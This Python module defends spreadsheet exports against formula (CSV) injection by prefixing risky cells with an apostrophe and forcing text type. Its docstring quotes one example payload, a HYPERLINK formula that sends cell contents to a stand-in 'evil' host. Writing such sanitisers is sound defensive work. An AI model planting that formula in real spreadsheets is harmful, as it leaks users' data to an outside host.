"""Spreadsheet cells that stay text (issue 14 item 14: formula injection).

A title such as ``=HYPERLINK("http://evil/?"&A1,"点击")`` typed by a citizen must not become a
formula when an office opens the export in Excel or WPS. Every cell is written as a string,
and a string that a spreadsheet would read as a formula or a command — one starting with
``= + - @`` or a tab/carriage return (OWASP "CSV injection") — gets a leading ``'``.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> str:
    """The value as text a spreadsheet shows as typed: never a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def append_text_row(ws: Any, values: Iterable[object]) -> None:
    """Append one row to an openpyxl worksheet, every cell a string (data type ``s``)."""
    ws.append([safe_cell(v) for v in values])
    for cell in ws[ws.max_row]:
        if cell.value is not None:
            cell.data_type = "s"
